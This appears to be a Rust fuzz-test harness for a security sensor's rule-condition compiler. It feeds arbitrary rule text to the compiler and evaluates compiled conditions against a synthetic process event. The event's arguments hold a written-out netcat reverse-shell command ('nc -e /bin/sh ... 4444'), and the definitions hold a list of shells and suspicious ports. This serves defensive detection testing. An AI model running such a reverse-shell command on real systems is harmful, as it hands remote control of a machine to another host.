//! Rule conditions as written by rule authors: any text compiles or fails with a positioned
//! error, never a panic; a condition that compiles evaluates against events without one, and
//! so do its field and kind analyses.
#![no_main]

use libfuzzer_sys::fuzz_target;
use sensor::detect::{condition, fields};
use sensor_proto as pb;

fuzz_target!(|src: &str| {
    let mut defs = condition::Definitions::new();
    defs.add_list("shells", ["sh", "bash", "/bin/sh"]);
    defs.add_list("ports", ["22", "4444", "-1"]);
    let _ = defs.add_macro("container", "container.id exists");
    let Ok(cond) = condition::compile(src, &defs) else {
        return;
    };
    let _ = cond.fields();
    let _ = cond.kinds();
    let _ = cond.resolve(&fields::EventSchema);
    let exec = pb::Event {
        kind: "exec".into(),
        container: Some(pb::Container {
            id: "a".repeat(64),
            ..Default::default()
        }),
        process: Some(pb::Process {
            exe: "/bin/sh".into(),
            args: vec![
                "sh".into(),
                "-c".into(),
                "nc -e /bin/sh 10.0.0.1 4444".into(),
            ],
            ..Default::default()
        }),
        ..Default::default()
    };
    for event in [pb::Event::default(), exec] {
        let _ = cond.eval(&fields::EventView(&event));
    }
});
